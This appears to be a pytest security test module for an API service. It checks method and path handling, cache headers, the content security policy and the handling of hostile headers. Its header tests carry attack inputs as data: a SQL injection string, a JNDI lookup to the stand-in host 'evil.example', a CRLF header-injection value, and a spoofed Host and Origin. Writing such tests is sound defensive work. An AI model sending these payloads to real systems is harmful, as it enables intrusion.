"""What answers carry, whoever asks: `door.sound` looks at each; here are those that nothing else asks for."""

import re
from collections.abc import Callable

import pytest

from tests.integration.api_service.security.door import MARKER, Door

Note = Callable[[str, str], None]
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


@pytest.mark.parametrize("method", METHODS)
def test_each_method_on_each_path(door: Door, note: Note, method: str) -> None:
    taken = {(route.method, route.path) for route in door.routes}
    for path in {route.path for route in door.routes}:
        if (method, path) in taken:
            continue
        answer = door.client.request(method, path.replace("{", MARKER).replace("}", ""))
        assert answer.status_code in (404, 405), (method, path)
        if answer.status_code == 405:
            assert answer.headers["allow"], path
        assert "access-control-allow-origin" not in answer.headers
        note("a method that a route doesn't take", f"{answer.status_code}")


@pytest.mark.parametrize(
    "path",
    [
        "/nowhere",
        f"/{MARKER}",
        "/docs/",
        "/docs/nothing",
        "/web/",
        "/web/nothing",
        "/metrics",
        "/.env",
        "//healthz",
        "/ingest/",
        "/stats/",
    ],
)
def test_paths_that_there_are_not(door: Door, note: Note, path: str) -> None:
    url = str(door.client.base_url).rstrip("/") + path  # a path of two slashes alone would be a host
    answer = door.client.get(url, headers={"Origin": "https://evil.example", "Host": "evil.example"})
    assert answer.status_code in (401, 404), path
    assert "evil.example" not in f"{answer.headers}{answer.text}"
    note("no such path", f"{answer.status_code}")


def test_what_carries_data_is_kept_by_nobody_else(door: Door, note: Note) -> None:
    for route in door.guarded:
        answer = door.ask(route, door.token())
        kept = answer.headers["cache-control"]
        assert kept == "no-store" or "private" in kept, (route, kept)
        note("responses", f"nosniff; Cache-Control: {kept}")
    grant = {"grant_type": "client_credentials", "client_id": "all", "client_secret": "opensesame"}
    token = door.client.post("/auth/token", data=grant)
    assert (token.status_code, token.headers["cache-control"]) == (200, "no-store")
    door.secrets.add(token.json()["access_token"].rpartition(".")[2])


@pytest.mark.parametrize("path", ["/", "/docs"])
def test_pages_have_a_policy_and_load_from_here_only(door: Door, note: Note, path: str) -> None:
    page = door.client.get(path)
    policy = page.headers["content-security-policy"]
    for directive in ("default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'"):
        assert directive in policy
    assert "http" not in policy
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources
    assert all(re.match("#|/(?!/)", source) for source in sources)
    note("pages", "a strict CSP, no source from elsewhere")


@pytest.mark.parametrize(
    "name",
    [
        "User-Agent",
        "Referer",
        "X-Forwarded-For",
        "X-Forwarded-Host",
        "Forwarded",
        "Cookie",
        "Range",
        "If-None-Match",
        "Accept",
    ],
)
def test_headers_that_say_anything(door: Door, name: str) -> None:
    for value in (
        MARKER,
        "'; DROP TABLE events; --",
        "\xff\xfe",
        "a" * 4_000,
        "${jndi:ldap://evil.example/a}",
        "%0d%0aSet-Cookie: a=b",
    ):
        for route in door.guarded:
            answer = door.ask(route, door.token(), headers={name.encode(): value.encode("latin-1")})
            assert answer.status_code in (200, 202, 404, 406, 422), (route, answer.text)
            assert "set-cookie" not in answer.headers
